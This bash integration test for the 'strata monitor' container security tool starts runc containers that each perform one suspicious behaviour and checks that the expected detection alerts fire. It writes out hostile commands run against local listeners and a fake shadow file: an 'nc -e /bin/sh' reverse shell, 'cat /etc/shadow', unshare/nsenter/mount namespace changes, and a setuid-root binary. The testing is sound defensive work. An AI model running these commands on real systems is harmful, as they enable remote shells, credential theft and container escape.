# strata monitor on real runc containers (tests/fixtures/runc/runc.sh,
# busybox-static root filesystems). One container per behaviour a default
# rule targets; each does that one thing (with `runc exec`) while the
# monitor runs, and its alerts must be exactly the rules that behaviour
# should raise, each naming that container:
#   shell   sh                                  Shell in container
#   etc     touch /etc/evil                     Write below etc in container
#   shadow  cat /etc/shadow                     Read sensitive file in container
#   drift   cp /bin/busybox /tmp/echo; run it   Drift - executable not in the image
#   miner   nc to 127.0.0.1:3333 (a listener)   Connection to mining pool port
#   rev     nc -e /bin/sh to a listener         Standard stream redirected… (fd 0
#                                               and 1), Shell in container,
#                                               Reverse shell
#   escape  unshare -m, nsenter -m, mount       Namespace change (2), Mount
#   suid    a set-user-ID-root busybox run by   Setuid program run in container
#           uid 1000
# and a benign container that sleeps and reads its own files raises none.
# Then: SIGTERM ends the monitor cleanly, host processes are left out
# without --host and seen with it, and the fallback capture (netlink +
# fanotify) still sees a shell.
# Root only (skips loudly otherwise); everything started is stopped by PID
# or by name at exit. Sourced by run-one.sh: STRATA, ST_SRC, ST_TMP.

[[ $(id -u) == 0 ]] || skip "monitor_live needs root (eBPF, runc containers)"
for t in runc jq busybox; do
  command -v $t >/dev/null || skip "$t not installed (scripts/setup.sh)"
done
runc_sh=$ST_SRC/tests/fixtures/runc/runc.sh
runc_() { if [[ -n ${ST_RUNC_ROOT:-} ]]; then runc --root "$ST_RUNC_ROOT" "$@"; else runc "$@"; fi; }
p=m4l$$-
kinds=(benign shell etc shadow drift miner rev escape suid late)
mon_pid=
declare -A bundle
cleanup() {
  set +e # everything below runs, whatever fails
  [[ -n $mon_pid ]] && kill "$mon_pid" 2>/dev/null && wait "$mon_pid" 2>/dev/null
  for k in "${kinds[@]}"; do "$runc_sh" stop "$p$k" >/dev/null 2>&1 || true; done
  rm -rf "$ST_TMP"
}
trap cleanup EXIT

# The containers start before the monitor, but for "late", which starts
# while it watches: what runc does to set a container up (namespaces,
# mounts, its own exec from a memfd, the rootfs written just before) must
# raise nothing.
for k in "${kinds[@]}"; do
  [[ $k == late ]] && continue
  read -r _ _ b < <("$runc_sh" start "$p$k" -- sleep 1000)
  bundle[$k]=$b
done
printf 'root:*:19000:0:99999:7:::\n' >"${bundle[shadow]}/rootfs/etc/shadow"
mkdir -p "${bundle[suid]}/rootfs/suid"
cp "$(command -v busybox)" "${bundle[suid]}/rootfs/suid/id"
chmod 4755 "${bundle[suid]}/rootfs/suid/id"

# starts the monitor in the background; returns once it captures
monitor_start() { # OUT ARGS...
  local out=$1
  shift
  rm -f "$ST_TMP/mon.prom"
  "$STRATA" monitor --rate 0 --dedup 0 --output "$out" --metrics "$ST_TMP/mon.prom" \
    "$@" 2>"$ST_TMP/mon.err" &
  mon_pid=$!
  for _ in $(seq 100); do
    [[ -s $ST_TMP/mon.prom ]] && return 0
    kill -0 "$mon_pid" 2>/dev/null || { cat "$ST_TMP/mon.err" >&2; fail "the monitor stopped"; }
    sleep 0.1
  done
  fail "the monitor did not start in 10 s: $(cat "$ST_TMP/mon.err")"
}
monitor_stop() { # SIGNAL
  kill "-$1" "$mon_pid"
  wait "$mon_pid" || { cat "$ST_TMP/mon.err" >&2; fail "the monitor failed after SIG$1"; }
  mon_pid=
}
# stdin of what runs in the containers: an empty file of our own (the
# listeners below would send whatever they read to their peer)
: >"$ST_TMP/empty"
ex() { local k=$1; shift; runc_ exec "$p$k" "$@" <"$ST_TMP/empty" >>"$ST_TMP/exec.log" 2>&1 || true; }

monitor_start "$ST_TMP/alerts.jsonl" --duration 120s
mode=$(sed -n 's/^strata monitor: capture: //p' "$ST_TMP/mon.err")
[[ $mode == ebpf* ]] || skip "capture is not eBPF here ($mode): the network, namespace and setuid rules cannot be tested"

# ---- the behaviours ---------------------------------------------------------------------
"$runc_sh" start "$p"late -- sleep 1000 >/dev/null
ex late cat /etc/passwd
ex late ls /bin
ex benign cat /etc/hostname
ex benign ls /bin/sleep /etc
ex benign cat /etc/passwd
ex benign sleep 0.2
ex shell sh -c true
ex etc touch /etc/evil
ex shadow cat /etc/shadow
ex drift cp /bin/busybox /tmp/echo
ex drift /tmp/echo hi
for k in miner rev; do
  runc_ exec --cap CAP_NET_ADMIN "$p$k" ip link set lo up <"$ST_TMP/empty" || fail "$k: lo up"
done
# listeners in the containers' own network namespaces, output to our log
runc_ exec -d "$p"miner nc -l -p 3333 <"$ST_TMP/empty" >>"$ST_TMP/exec.log" 2>&1
runc_ exec -d "$p"rev nc -l -p 9999 <"$ST_TMP/empty" >>"$ST_TMP/exec.log" 2>&1
sleep 0.5
ex miner nc -w 1 127.0.0.1 3333
ex rev timeout 3 nc 127.0.0.1 9999 -e /bin/sh
ex escape unshare -m true
ex escape nsenter -t 1 -m true
ex escape mount -t tmpfs none /tmp
runc_ exec --user 1000:1000 --no-new-privs=false "$p"suid /suid/id <"$ST_TMP/empty" \
  >>"$ST_TMP/exec.log" 2>&1 || true
sleep 1 # the last batch is drained every 20 ms; a second is plenty
monitor_stop TERM
grep -q "^strata monitor: [0-9]* events, [0-9]* matched, [0-9]* alerts" "$ST_TMP/mon.err" ||
  fail "no summary line after SIGTERM: $(cat "$ST_TMP/mon.err")"
pass "monitor ran ($mode) and stopped cleanly on SIGTERM"

# ---- exactly the expected alerts, each naming its container ------------------------------
expect() { # KIND -> the sorted rule names expected, one per line
  case $1 in
  benign | late) ;;
  shell) echo "Shell in container" ;;
  etc) echo "Write below etc in container" ;;
  shadow) echo "Read sensitive file in container" ;;
  drift) echo "Drift - executable not in the image" ;;
  miner) echo "Connection to mining pool port" ;;
  rev) printf '%s\n' "Reverse shell" "Shell in container" \
    "Standard stream redirected to network socket" "Standard stream redirected to network socket" ;;
  escape) printf '%s\n' "Mount in container" "Namespace change in container" "Namespace change in container" ;;
  suid) echo "Setuid program run in container" ;;
  esac
}
bad=0
for k in "${kinds[@]}"; do
  jq -r --arg c "$p$k" 'select(.container.id == $c) | .rule' "$ST_TMP/alerts.jsonl" | sort >"$ST_TMP/got.txt"
  expect "$k" | sort >"$ST_TMP/want.txt"
  if ! diff -u "$ST_TMP/want.txt" "$ST_TMP/got.txt" >"$ST_TMP/diff.txt"; then
    echo "--- $k: alerts differ" >&2
    cat "$ST_TMP/diff.txt" >&2
    bad=1
  fi
done
if ((bad)); then
  jq -c --arg p "$p" 'select(.container.id | startswith($p)) | [.rule, .container.id, .output]' \
    "$ST_TMP/alerts.jsonl" >&2
  fail "the alerts are not the expected ones"
fi
# every alert of ours names the container in all three places
jq -e -s --arg p "$p" '[.[] | select(.container.id | startswith($p))] |
  length == 13 and all(.container.runtime == "runc"
    and .output_fields["container.full_id"] == .container.id
    and .output_fields["container.id"] == .container.id[0:12]
    and .output_fields["container.name"] == .container.id
    and (.output | contains("container_id=")) and (.container.id[0:12] as $s |
      .output | contains("container_id=" + $s)))' \
  "$ST_TMP/alerts.jsonl" >/dev/null || fail "an alert does not name its container"
! jq -e 'select(.container.id == "host")' "$ST_TMP/alerts.jsonl" >/dev/null ||
  fail "host alerts without --host"
pass "each behaviour raised exactly its rules, naming its container; the benign container none"

# the alerts say what happened
jq -e -s --arg c "${p}etc" '.[] | select(.container.id == $c) | .output_fields["fd.name"] == "/etc/evil"' \
  "$ST_TMP/alerts.jsonl" >/dev/null || fail "etc: fd.name is not /etc/evil"
jq -e -s --arg c "${p}drift" '.[] | select(.container.id == $c) | .output_fields["proc.exepath"] == "/tmp/echo"' \
  "$ST_TMP/alerts.jsonl" >/dev/null || fail "drift: proc.exepath is not /tmp/echo"
jq -e -s --arg c "${p}miner" '.[] | select(.container.id == $c) | .output_fields["fd.rport"] == 3333' \
  "$ST_TMP/alerts.jsonl" >/dev/null || fail "miner: fd.rport is not 3333"
jq -e -s --arg c "${p}suid" '.[] | select(.container.id == $c) | .output_fields["proc.exepath"] == "/suid/id"' \
  "$ST_TMP/alerts.jsonl" >/dev/null || fail "suid: proc.exepath is not /suid/id"
pass "file, program and port in the alerts"

# ---- no drops; host processes left out without --host, seen with it ------------------------
grep -q '^strata_monitor_dropped_total{stage="kernel"} 0$' "$ST_TMP/mon.prom" ||
  fail "events dropped: $(grep dropped_total "$ST_TMP/mon.prom")"
cat >"$ST_TMP/marker.yaml" <<'EOF'
- rule: Marker
  desc: the test's marker program ran
  condition: evt.type = execve and proc.name = echo and proc.args contains strata-marker
  output: marker %proc.exepath %proc.args
  priority: NOTICE
EOF
marker=strata-marker-$$
for host in without with; do
  args=(--no-default-rules --rules "$ST_TMP/marker.yaml" --duration 60s)
  [[ $host == with ]] && args+=(--host)
  monitor_start "$ST_TMP/host-$host.jsonl" "${args[@]}"
  /bin/echo "$marker" >/dev/null
  ex shell /bin/echo "$marker"
  sleep 1
  monitor_stop INT
  jq -r '.container.id' "$ST_TMP/host-$host.jsonl" | sort >"$ST_TMP/got.txt"
  if [[ $host == with ]]; then want=("${p}shell" host); else want=("${p}shell"); fi
  printf '%s\n' "${want[@]}" | sort >"$ST_TMP/want.txt"
  same_files "$ST_TMP/want.txt" "$ST_TMP/got.txt"
done
pass "host processes: left out without --host, attributed to \"host\" with it"

# ---- the fallback capture ------------------------------------------------------------------
monitor_start "$ST_TMP/fallback.jsonl" --capture fallback --duration 60s
mode=$(sed -n 's/^strata monitor: capture: //p' "$ST_TMP/mon.err")
[[ $mode == fallback* && $mode == *network* ]] ||
  fail "--capture fallback: the mode line does not say what it misses: $mode"
# the fallback reads an exec's details from /proc: the shell lives a second
ex shell sh -c 'sleep 1; true'
sleep 1
monitor_stop INT
jq -r --arg c "${p}shell" 'select(.container.id == $c) | .rule' "$ST_TMP/fallback.jsonl" >"$ST_TMP/got.txt"
echo "Shell in container" >"$ST_TMP/want.txt"
same_files "$ST_TMP/want.txt" "$ST_TMP/got.txt"
grep -q 'strata_monitor_capture_mode_info{mode="fallback"' "$ST_TMP/mon.prom" ||
  fail "metrics: the mode is not fallback"
pass "fallback capture ($mode) sees the shell"
